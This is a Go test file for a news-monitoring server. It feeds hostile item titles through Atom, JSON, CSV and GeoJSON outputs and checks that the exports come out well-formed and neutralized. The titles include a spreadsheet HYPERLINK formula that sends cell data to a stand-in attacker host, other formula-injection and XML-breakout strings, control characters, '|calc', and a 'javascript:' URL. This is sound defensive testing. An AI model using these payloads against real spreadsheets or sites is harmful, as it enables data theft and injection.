package server_test

import (
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"net/http"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/mmcdole/gofeed"

	"marsad/index"
	"marsad/item"
	"marsad/server"
	"marsad/tagger"
)

// entries is a rule pack's places: a country, a governorate, a town, and a theme.
func entries(kind item.Kind, id string) (tagger.Entry, bool) {
	all := map[string]tagger.Entry{
		"iraq":    {Type: "country", Name: "Iraq", Located: true, Lat: 33, Lon: 44},
		"anbar":   {Type: "governorate", Name: "Anbar", In: []string{"iraq"}, Located: true, Lat: 32.56, Lon: 41.92},
		"al-qaem": {Type: "town", Name: "al-Qaem", In: []string{"anbar", "iraq"}, Located: true, Lat: 34.37, Lon: 41.09},
		"mosul":   {Type: "city", Name: "Mosul", In: []string{"iraq"}, Located: true, Lat: 36.34, Lon: 43.13},
		"nowhere": {Type: "town", Name: "Nowhere"},
	}
	e, ok := all[id]
	e.Kind, e.ID = kind, id
	return e, ok && kind == item.Place
}

// hostile is titles that break out of what they are put into.
func hostile() []string {
	return []string{
		`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u200f=1", "＝1",
		"a,b\"c\nd;e", "]]>&lt;</title></entry><entry>", "<![CDATA[x", "\x00\x01\x1b[2J\u202etxt\ufffe", "\xff\xfe", "&#0;&amp;", "القائم=1", "",
		"|calc", "%00",
	}
}

// newRealServer shows items from a real index.
func newRealServer(t *testing.T, items []item.Tagged) *server.Server {
	t.Helper()
	cfg := index.DefaultConfig()
	cfg.Linger = time.Millisecond
	x, err := index.Open(t.Context(), filepath.Join(t.TempDir(), "index"), cfg, quiet(), nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = x.Close() })
	for i, tg := range items {
		if err := x.Add(t.Context(), []index.Entry{{Seq: uint64(i + 1), ID: tg.ID(), Tagged: tg}}); err != nil {
			t.Fatal(err)
		}
	}
	if err := x.Flush(t.Context()); err != nil {
		t.Fatal(err)
	}
	return newServer(t, func(o *server.Options) { o.Search, o.Entry = x, entries })
}

func hostileItems() []item.Tagged {
	var out []item.Tagged
	for i, title := range hostile() {
		a := tagged(fmt.Sprint("hostile", i), "en", title, title, title, "https://x.example/?a=1&b=<"+strconv.Itoa(i)+">",
			item.Tag{Kind: item.Place, ID: "al-qaem", Status: item.Certain},
			item.Tag{Kind: item.Place, ID: "iraq", Status: item.Certain})
		a.Item.Listed = a.Item.Listed.Add(-time.Duration(i) * time.Minute)
		if i == 3 {
			a.Item.Revised = a.Item.Seen.Add(time.Hour)
		}
		out = append(out, a)
	}
	return out
}

// TestFeedsForReaders reads what is served as feed readers do.
func TestFeedsForReaders(t *testing.T) {
	t.Parallel()
	items := hostileItems()
	s := newRealServer(t, items)
	for _, form := range []string{"atom", "json"} {
		path := "/api/v1/search." + form + "?q=lang:en"
		w := ask(t, s, http.MethodGet, path)
		wantStatus(t, w, http.StatusOK)
		again := ask(t, s, http.MethodGet, path).Body.String()
		if again != w.Body.String() {
			t.Errorf("%s differs when asked again", path)
		}
		if form == "atom" {
			wellFormed(t, again)
		}
		f, err := gofeed.NewParser().ParseString(again)
		if err != nil {
			t.Fatalf("%s: %v\n%s", path, err, again)
		}
		if len(f.Items) != len(items) || f.Title != "Marsad: lang:en" || f.FeedLink != "http://127.0.0.1:8080"+path {
			t.Fatalf("%s: %d entries of %q at %s", path, len(f.Items), f.Title, f.FeedLink)
		}
		if form == "atom" && !f.UpdatedParsed.Equal(items[3].Item.Revised) {
			t.Errorf("%s: updated %s, want when the last text changed, %s", path, f.Updated, items[3].Item.Revised)
		}
		for i, e := range f.Items {
			it := items[i].Item
			want := it.Seen
			if i == 3 {
				want = it.Revised
			}
			if e.GUID != "tag:marsad.invalid,2026:item/"+string(it.ID) || !e.UpdatedParsed.Equal(want) || !e.PublishedParsed.Equal(it.Published) {
				t.Errorf("%s: entry %d is %s, updated %s, published %s", path, i, e.GUID, e.Updated, e.Published)
			}
			if !strings.HasPrefix(e.Link, "https://x.example/?a=1&b=") || !strings.HasSuffix(e.Categories[0], "al-qaem") {
				t.Errorf("%s: entry %d links to %q, tags %q", path, i, e.Link, e.Categories)
			}
			if e.Title == "" || strings.ContainsAny(e.Title, "\x00\x1b\u202e") {
				t.Errorf("%s: the title of entry %d is %q", path, i, e.Title)
			}
		}
	}
}

// TestFeedPages follows the links from page to page.
func TestFeedPages(t *testing.T) {
	t.Parallel()
	items := hostileItems()
	s := newRealServer(t, items)
	seen := 0
	next := "/api/v1/search.json?q=lang:en&limit=5&sort=seen"
	for page := 0; next != ""; page++ {
		var f struct {
			Items []struct{ ID string }
			Next  string `json:"next_url"`
		}
		w := ask(t, s, http.MethodGet, next)
		wantStatus(t, w, http.StatusOK)
		if err := json.Unmarshal(w.Body.Bytes(), &f); err != nil {
			t.Fatal(err)
		}
		if seen += len(f.Items); page > len(items) {
			t.Fatal("the pages have no end")
		}
		next = strings.TrimPrefix(f.Next, "http://127.0.0.1:8080")
	}
	if seen != len(items) {
		t.Errorf("%d entries on all pages, want %d", seen, len(items))
	}
}

func wellFormed(t *testing.T, doc string) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(doc))
	entries := 0
	for {
		tok, err := d.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("not well-formed: %v", err)
		}
		if e, ok := tok.(xml.StartElement); ok && e.Name.Local == "entry" {
			entries++
		}
	}
	if entries != len(hostile()) {
		t.Errorf("%d entries, want %d", entries, len(hostile()))
	}
}

func TestTableIsSafe(t *testing.T) {
	t.Parallel()
	items := hostileItems()
	s := newRealServer(t, items)
	w := ask(t, s, http.MethodGet, "/api/v1/search.csv?bom=1")
	wantStatus(t, w, http.StatusOK)
	body, marked := strings.CutPrefix(w.Body.String(), "\ufeff")
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !marked || len(rows) != len(items)+1 || w.Header().Get("Content-Disposition") != `attachment; filename="marsad.csv"` {
		t.Fatalf("%d rows, mark %v, header %v", len(rows), marked, w.Header())
	}
	for i, row := range rows {
		for j, c := range row {
			bare := strings.TrimLeft(c, " \u200f")
			if bare != "" && strings.ContainsAny(bare[:1], "=+-@\t\r\n|%") || strings.HasPrefix(bare, "＝") || strings.ContainsRune(c, 0) {
				t.Errorf("row %d, column %s is live: %q", i, rows[0][j], c)
			}
		}
	}
	if got := rows[16][slices.Index(rows[0], "title")]; got != "القائم=1" {
		t.Errorf("a harmless title was changed: %q", got)
	}
	if got := rows[1][slices.Index(rows[0], "places")]; got != "al-qaem iraq" {
		t.Errorf("places %q", got)
	}
}

func TestMap(t *testing.T) {
	t.Parallel()
	tag := func(id string) item.Tag { return item.Tag{Kind: item.Place, ID: id, Status: item.Certain} }
	implied := tag("iraq")
	implied.Implied = true
	maybe := tag("mosul")
	maybe.Status = item.Candidate
	items := []item.Tagged{
		tagged("one", "en", "S", "one", "", "", tag("al-qaem"), tag("anbar"), tag("iraq")),
		tagged("two", "en", "S", "two", "", "javascript:alert(1)", tag("al-qaem"), tag("mosul"), implied),
		tagged("none", "en", "S", "none", "", "", tag("nowhere"), tag("unknown"), implied, maybe),
	}
	for i := range items {
		items[i].Item.Listed = items[i].Item.Listed.Add(-time.Duration(i) * time.Minute)
	}
	w := ask(t, newRealServer(t, items), http.MethodGet, "/api/v1/search.geojson")
	wantStatus(t, w, http.StatusOK)
	var got struct {
		Type     string
		Features []struct {
			Type     string
			Geometry struct {
				Type        string
				Coordinates any
			}
			Properties struct {
				Title, URL string
				Places     []string
			}
		}
	}
	if err := json.Unmarshal(w.Body.Bytes(), &got); err != nil {
		t.Fatalf("%v\n%s", err, w.Body)
	}
	var text []string
	for _, f := range got.Features {
		text = append(text, fmt.Sprint(f.Type, " ", f.Geometry.Type, f.Geometry.Coordinates, f.Properties.Title, f.Properties.URL, f.Properties.Places))
	}
	want := []string{
		"Feature Point[41.09 34.37]one[al-qaem]",
		"Feature MultiPoint[[41.09 34.37] [43.13 36.34]]two[al-qaem mosul]",
	}
	if diff := cmp.Diff(want, text); diff != "" || got.Type != "FeatureCollection" {
		t.Errorf("%s (-want +got):\n%s", got.Type, diff)
	}
	empty := ask(t, newRealServer(t, nil), http.MethodGet, "/api/v1/search.geojson").Body.String()
	if !json.Valid([]byte(empty)) {
		t.Errorf("an empty map is no JSON: %s", empty)
	}
}

// TestCounts asks the real index for all that can be counted.
func TestCounts(t *testing.T) {
	t.Parallel()
	items := hostileItems()
	for i := range items {
		items[i].Story = items[i/4*4].Item.ID
		items[i].Item.Listed = items[i].Item.Listed.AddDate(0, 0, -i)
		items[i].Item.Source = fmt.Sprint("Source ", i%2)
	}
	s := newRealServer(t, items)
	w := ask(t, s, http.MethodGet, "/api/v1/search?collapse=story&limit=2&facets=country,town,feed&histogram=week&over=place:iraq,theme:x&related=3")
	wantStatus(t, w, http.StatusOK)
	var got server.Results
	if err := json.Unmarshal(w.Body.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	if got.Total != uint64(len(items)) || got.Stories != 5 || len(got.Hits) != 2 || got.Hits[0].Copies != 4 ||
		!slices.Equal(got.Hits[0].Sources, []string{"Source 0", "Source 1"}) || got.Next == "" {
		t.Errorf("total %d, stories %d, hits %+v", got.Total, got.Stories, got.Hits)
	}
	n := len(items)
	want := map[string][]server.Facet{"country": {{Value: "iraq", Count: n}}, "town": {{Value: "al-qaem", Count: n}}, "feed": {{Value: "feed-en", Count: n}}}
	if diff := cmp.Diff(want, got.Facets); diff != "" {
		t.Errorf("facets (-want +got):\n%s", diff)
	}
	sum := 0
	for _, b := range got.Histogram.Buckets {
		if sum += b.Count; b.Over[0] != b.Count || b.Over[1] != 0 {
			t.Errorf("bucket %+v", b)
		}
	}
	if sum != n || got.Histogram.Unit != "week" || got.Histogram.Buckets[0].Date != "2026-11-02" {
		t.Errorf("histogram %+v", got.Histogram)
	}
}
